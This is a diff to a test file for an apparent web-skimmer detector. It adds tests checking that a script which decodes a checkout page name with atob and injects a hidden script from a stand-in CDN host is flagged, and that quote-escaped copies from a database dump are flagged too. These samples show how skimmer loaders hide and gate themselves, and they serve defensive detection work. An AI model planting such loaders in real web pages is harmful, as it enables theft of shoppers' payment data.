@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest'
+import { sha256 } from '../../core/hash.ts'
 import { analyzeScript } from '../../detector/index.ts'
 
 // Loaders: a first stage that adds the skimmer's script only on checkout pages, its address
@@ -221,5 +222,35 @@ describe('form data sent to a server script dropped among static files', () => {
         `var x = new XMLHttpRequest(); x.open('POST', '/media/.x.php'); x.send(document.title)`,
       ),
     ).not.toContain('drop-in-static-folder')
+  })
+})
+
+describe('a checkout gate that compares the address whole', () => {
+  const url = 'https://cdn-assets.example/app.js'
+  const loader = (word: string): string =>
+    `var p = window.location.pathname; for (var i = 0; i < 5; i++) p = p.replace('/', '');
+     if (p == ${word}) { var s = document.createElement('script'); s.src = atob('${b64(url)}');
+     document.getElementsByTagName('head')[0].appendChild(s) }`
+
+  it('with a decoded checkout word is a gate, and the hidden script behind it a loader', () => {
+    const found = rules(loader(`atob('${b64('checkoutonepage')}')`))
+    expect(found).toEqual(expect.arrayContaining(['checkout-url-gating', 'hidden-checkout-loader']))
+  })
+
+  it('with a word that is not a checkout, or a value that is not the address, is no gate', () => {
+    expect(rules(loader(`atob('${b64('aboutus')}')`))).not.toContain('checkout-url-gating')
+    const step = `var step = document.body.getAttribute('data-step'); if (step === 'checkout') init()`
+    expect(rules(step)).not.toContain('checkout-url-gating')
+  })
+
+  it('is read the same from a database dump, where every quote is escaped', () => {
+    const page = `<script type="text/javascript">${loader(`atob('${b64('checkoutonepage')}')`)}</script>`
+    const dumped = page.replace(/(['"])/g, '\\$1')
+    const found = rules(dumped)
+    expect(found).toEqual(
+      expect.arrayContaining(['checkout-url-gating', 'hidden-checkout-loader', 'escaped-input']),
+    )
+    // the verdict is the dump's own, not the unescaped text's
+    expect(analyzeScript(dumped).sha256).toBe(sha256(dumped))
   })
 })
